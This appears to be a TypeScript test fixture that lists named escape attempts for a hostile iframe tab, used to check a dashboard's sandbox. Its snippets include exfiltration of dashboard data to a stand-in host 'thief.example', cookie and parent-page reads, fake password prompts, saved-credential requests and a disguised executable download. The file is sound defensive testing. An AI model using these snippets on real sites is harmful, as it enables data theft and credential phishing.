import { tabFrameScript } from '#mocks/contracts/agency/tabs/tab-frame-page.ts'

/** Where a tab tries to take what it knows. */
export const thief = 'https://thief.example'

const later = (ms: number) => `await new Promise((done) => setTimeout(done, ${ms}));`
const link = (attributes: string) =>
  `const a = document.createElement('a'); ${attributes}; document.body.append(a); a.click();`
const loads = (tag: string, attribute: string) =>
  `const it = document.createElement('${tag}'); const got = new Promise((done) => { it.onload = it.onloadeddata = () => done('loaded'); it.onerror = () => done() }); it.${attribute} = '${thief}/${tag}'; document.body.append(it); return Promise.race([got, new Promise((done) => setTimeout(done, 400))])`

/**
 * What a hostile tab tries, by name: the body of an async function that answers with what it got away with, and with
 * nothing or an error where it did not. What shows outside of the frame is looked at from outside.
 */
export const tabEscapes: Record<string, string> = {
  'reads the page around': `return parent.document.body.innerHTML`,
  'reads the top page': `return top.document.title`,
  'runs code of the page around': `return parent.eval('document.cookie')`,
  'reaches its constructor': `return String(parent.constructor.constructor('return document')())`,
  'reads its frame element': `return frameElement.outerHTML`,
  'reads cookies': `return 'cookies ' + document.cookie`,
  'writes a cookie': `document.cookie = 'escape=1'; return document.cookie`,
  'reads through the cookie store': `return JSON.stringify(await cookieStore.getAll())`,
  'keeps in local storage': `localStorage.setItem('escape', '1'); return 'kept'`,
  'keeps in session storage': `sessionStorage.setItem('escape', '1'); return 'kept'`,
  'opens a database': `return await new Promise((done, fail) => { const open = indexedDB.open('escape'); open.onsuccess = () => done('opened'); open.onerror = fail })`,
  'opens a cache': `await caches.open('escape'); return 'opened'`,
  'asks for a directory of its own': `await navigator.storage.getDirectory(); return 'got'`,
  'asks for the storage of the site': `await document.requestStorageAccess(); return 'got'`,
  'registers a service worker': `await navigator.serviceWorker.register('/sw.js'); return 'registered'`,
  'starts a worker from a blob': `const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("alive")']))); return await new Promise((done) => { worker.onmessage = ({ data }) => done(data); worker.onerror = () => done(); setTimeout(done, 400) })`,
  'sets the top address': `top.location = '${thief}/top'; ${later(300)}`,
  'replaces the address around': `parent.location.replace('${thief}/top'); ${later(300)}`,
  'runs a script address at the top': `top.location = 'javascript:window.escaped=1'; ${later(200)}`,
  'follows a link to the top': `${link(`a.href = '${thief}/top'; a.target = '_top'`)} ${later(300)}`,
  'follows a link to the parent': `${link(`a.href = '/app/eu/credentials'; a.target = '_parent'`)} ${later(300)}`,
  'opens a window elsewhere': `return window.open('${thief}/popup') && 'opened'`,
  'opens a window of ours': `return window.open('/app/eu/agents') && 'opened'`,
  'follows a link to a new window': `${link(`a.href = '/app/eu/agents'; a.target = '_blank'; a.rel = 'opener'`)} ${later(300)}`,
  'goes back in the history': `history.back(); ${later(400)}`,
  'goes far back in the history': `history.go(-2); ${later(400)}`,
  'writes the history': `history.pushState(null, '', '/app/eu/credentials'); return self.origin !== 'null' && 'became ours'`,
  'asks by a dialog': `return confirm('Session over. Password?') && 'asked'`,
  'asks for a word': `return prompt('Password?')`,
  'raises an alert': `alert('escape')`,
  'prints the page': `print()`,
  'calls the api with cookies': `return (await fetch('/api/eu/session', { credentials: 'include' })).status`,
  'calls the api without reading': `await fetch('/api/eu/session', { mode: 'no-cors', credentials: 'include' }); return 'called'`,
  'calls the api the old way': `const call = new XMLHttpRequest(); call.withCredentials = true; call.open('GET', '/api/eu/session', false); call.send(); return call.responseText`,
  'listens to the api': `return await new Promise((done) => { const events = new EventSource('/api/eu/session', { withCredentials: true }); events.onopen = () => done('open'); events.onerror = () => done() })`,
  'opens a socket': `return await new Promise((done) => { const socket = new WebSocket('wss://thief.example'); socket.onopen = () => done('open'); socket.onerror = () => done(); setTimeout(done, 400) })`,
  'calls somebody directly': `const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:thief.example' }] }); call.createDataChannel('out'); const got = new Promise((done) => { call.onicecandidate = ({ candidate }) => candidate && done(candidate.candidate); setTimeout(done, 800) }); await call.setLocalDescription(); return got`,
  'calls somebody from a frame of its own': `const it = document.createElement('iframe'); it.srcdoc = '<script>const call = new RTCPeerConnection(); call.createDataChannel("a"); call.onicecandidate = (e) => e.candidate && parent.postMessage("called", "*"); call.setLocalDescription()</' + 'script>'; const got = new Promise((done) => { window.onmessage = ({ data }) => done(data === 'called' && data); setTimeout(done, 900) }); document.body.append(it); return got`,
  'calls somebody from the window of a frame': `const it = document.createElement('iframe'); document.body.append(it); return 'got ' + new it.contentWindow.RTCPeerConnection()`,
  'calls somebody through our own script': `const it = document.createElement('iframe'); it.srcdoc = '<script>' + ${JSON.stringify(tabFrameScript('html'))} + '</' + 'script>'; const got = new Promise((done) => { window.onmessage = ({ data }) => { if (data?.type === 'vg-tab-ready') it.contentWindow.postMessage({ type: 'vg-tab-fill', html: '', js: 'parent.postMessage(typeof RTCPeerConnection, "*")', dashboard: {} }, '*'); else if (data === 'function') done('called') }; setTimeout(done, 900) }); document.body.append(it); return got`,
  'sends a beacon': `navigator.sendBeacon('${thief}/beacon', 'data'); ${later(200)}`,
  'fetches elsewhere': `await fetch('${thief}/fetch?' + JSON.stringify(window.dashboardData), { mode: 'no-cors' }); return 'sent'`,
  'loads a picture elsewhere': loads('img', 'src'),
  'loads a script elsewhere': loads('script', 'src'),
  'loads a film elsewhere': loads('video', 'src'),
  'loads an object elsewhere': loads('object', 'data'),
  'imports a module elsewhere': `await import('${thief}/module.js'); return 'imported'`,
  'loads by a style': `document.body.insertAdjacentHTML('beforeend', '<style>@import url(${thief}/a.css); body { background: url(${thief}/b.png) }</style>'); ${later(300)}`,
  'fetches ahead': `document.head.insertAdjacentHTML('beforeend', '<link rel="prefetch" href="${thief}/ahead"><link rel="preload" as="image" href="${thief}/pre">'); ${later(300)}`,
  'pings from a link': `${link(`a.href = '#'; a.ping = '${thief}/ping'`)} ${later(300)}`,
  'sends a form to the api': `document.body.innerHTML = '<form method="post" action="/api/eu/session"><input name="a"></form>'; document.forms[0].submit(); ${later(300)}`,
  'sends a form elsewhere': `document.body.innerHTML = '<form method="post" action="${thief}/form"><input name="a" value="data"></form>'; document.forms[0].submit(); ${later(300)}`,
  'sends a form to the top': `document.body.innerHTML = '<form action="${thief}/form" target="_top"></form>'; document.forms[0].submit(); ${later(300)}`,
  'frames a page of ours': `const it = document.createElement('iframe'); it.src = '/app/eu/agents'; document.body.append(it); ${later(400)} return it.contentDocument?.body?.innerHTML`,
  'frames a page that has our origin': `const it = document.createElement('iframe'); it.sandbox = 'allow-scripts allow-same-origin'; it.srcdoc = '<script>parent.postMessage(localStorage.length, "*")</' + 'script>'; const got = new Promise((done) => { window.onmessage = ({ data }) => done(typeof data === 'number' && 'origin'); setTimeout(done, 400) }); document.body.append(it); return got`,
  'uses the storage of an empty frame': `const it = document.createElement('iframe'); document.body.append(it); return 'kept ' + it.contentWindow.localStorage.length`,
  'takes itself elsewhere': `location = '${thief}/?' + JSON.stringify(window.dashboardData); ${later(400)}`,
  'takes itself to a page of ours': `location = '/app/eu/credentials'; ${later(400)}`,
  'takes itself to its own page with more hosts': `if (location.search.includes('thief')) { await fetch('${thief}/fetch', { mode: 'no-cors' }); return 'sent' } location = '/custom-tab/html?host=thief.example'; ${later(800)}`,
  'sends itself on': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${thief}/refresh">'); ${later(500)}`,
  'moves the base': `document.head.insertAdjacentHTML('beforeend', '<base href="${thief}/">'); return document.baseURI.startsWith('${thief}') && 'moved'`,
  'asks to be of the domain': `document.domain = '127.0.0.1'; return parent.document.title`,
  'finds who opened it': `return opener.location.href`,
  'talks to other windows of ours': `const got = new Promise((done) => { window.onmessage = () => {}; const channel = new BroadcastChannel('voiceglow'); channel.onmessage = ({ data }) => done(data); setTimeout(done, 300) }); return got`,
  'reads the clipboard': `return 'read ' + (await navigator.clipboard.readText())`,
  'asks where one is': `return await new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('known'), () => done()))`,
  'listens to the microphone': `await navigator.mediaDevices.getUserMedia({ audio: true }); return 'listens'`,
  'asks to notify': `return (await Notification.requestPermission()) === 'granted' && 'granted'`,
  'fills the screen': `await document.documentElement.requestFullscreen(); return 'full'`,
  'locks the pointer': `await document.body.requestPointerLock(); ${later(200)} return document.pointerLockElement && 'locked'`,
  'gives a file to keep': `${link(`a.href = 'data:application/octet-stream,x'; a.download = 'update.exe'`)} ${later(300)}`,
  'asks for a saved password': `return (await navigator.credentials.get({ password: true })) && 'got'`,
  'learns more than was granted': `return Object.keys(window.dashboardData).filter((name) => name !== 'name').join() || (/email|token|secret|example/i.test(JSON.stringify(window.dashboardData)) && 'more')`,
  'asks for more by message': `const got = new Promise((done) => { addEventListener('dashboard-event', ({ detail }) => done(Object.keys(detail).filter((name) => name !== 'name').join())); setTimeout(done, 400) }); parent.postMessage({ type: 'vg-tab-ready', dashboardFields: ['email', 'agents'] }, '*'); parent.postMessage({ type: 'vg-tab-fill', dashboardFields: ['email'] }, '*'); return got`,
}

/** Of them what a page without a sandbox gets away with, so that the test is known to see it. */
export const openDoors = [
  'calls somebody directly',
  'reads the page around',
  'reads the top page',
  'reaches its constructor',
  'reads its frame element',
  'reads cookies',
  'writes a cookie',
  'keeps in local storage',
  'keeps in session storage',
  'opens a database',
  'starts a worker from a blob',
  'calls the api with cookies',
  'calls the api without reading',
  'calls the api the old way',
  'loads a script elsewhere',
  'fetches elsewhere',
  'opens a window elsewhere',
  'uses the storage of an empty frame',
  'moves the base',
]

/** The script of a tab that tries it once it has its data, and says what came of it. */
export function escapeScript(attempt: string): string {
  return `window.addEventListener('dashboard-event', async () => {
  const root = document.documentElement
  const result = await (async () => { ${attempt} })().then((got) => (got ? 'escaped: ' + got : 'held'), (error) => 'held: ' + error?.name)
  root.dataset.result = result
}, { once: true })`
}
